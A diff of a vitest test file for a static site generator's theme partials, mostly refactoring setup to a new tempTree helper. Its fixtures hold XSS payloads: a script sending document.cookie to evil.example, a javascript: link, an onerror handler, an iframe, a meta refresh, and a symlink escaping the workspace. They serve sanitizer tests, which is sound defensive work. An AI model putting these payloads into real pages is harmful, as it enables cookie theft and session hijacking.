@@ -4,7 +4,7 @@ import { readFile, symlink, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { build, readTree } from '../../helpers/site';
-import { post, tempDir, writeTree } from '../../helpers/tmp';
+import { post, tempDir, tempTree, writeTree } from '../../helpers/tmp';
 
 const posts = {
   'posts/a.md': post({ title: 'A', date: '2024-01-01', tags: '[notes]' }, 'Text.\n'),
@@ -13,8 +13,7 @@ const posts = {
 
 describe('theme partials', () => {
   it('adds head.html to every head and replaces the header and footer with the author’s', async () => {
-    const root = await tempDir();
-    await writeTree(root, {
+    const root = await tempTree({
       ...posts,
       'theme/partials/head.html': '<link rel="icon" href="/favicon.svg">',
       'theme/partials/footer.html': '<footer class="mine">Written by hand</footer>',
@@ -34,8 +33,7 @@ describe('theme partials', () => {
   });
 
   it('never carries script from a partial to the site: scripts, handlers, frames and a meta refresh are left out and reported', async () => {
-    const root = await tempDir();
-    await writeTree(root, {
+    const root = await tempTree({
       ...posts,
       'theme/partials/head.html': '<meta name="author" content="Me"><script>fetch("https://evil.example/"+document.cookie)</script><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="/fonts.css">',
       'theme/partials/header.html': '<header class="mine"><a href="javascript:alert(1)">Home</a><img src="/logo.png" onerror="alert(2)"><iframe src="https://evil.example/"></iframe></header>',
@@ -51,8 +49,7 @@ describe('theme partials', () => {
   });
 
   it('rebuilds every page when a partial changes, as a clean build would', async () => {
-    const root = await tempDir();
-    await writeTree(root, { ...posts, 'theme/partials/header.html': '<header>One</header>' });
+    const root = await tempTree({ ...posts, 'theme/partials/header.html': '<header>One</header>' });
     const out = path.join(root, '_site');
     const cacheDir = await tempDir();
     await build(root, out, { cacheDir });
@@ -68,8 +65,7 @@ describe('theme partials', () => {
   it('never reads a partial through a link out of the workspace, and refuses one too big to be a snippet', async () => {
     const outside = await tempDir();
     await writeFile(path.join(outside, 'secret.html'), '<p>secret</p>');
-    const root = await tempDir();
-    await writeTree(root, { ...posts, 'theme/partials/.keep': '' });
+    const root = await tempTree({ ...posts, 'theme/partials/.keep': '' });
     await symlink(path.join(outside, 'secret.html'), path.join(root, 'theme/partials/footer.html'));
     const out = path.join(root, '_site');
     await build(root, out);
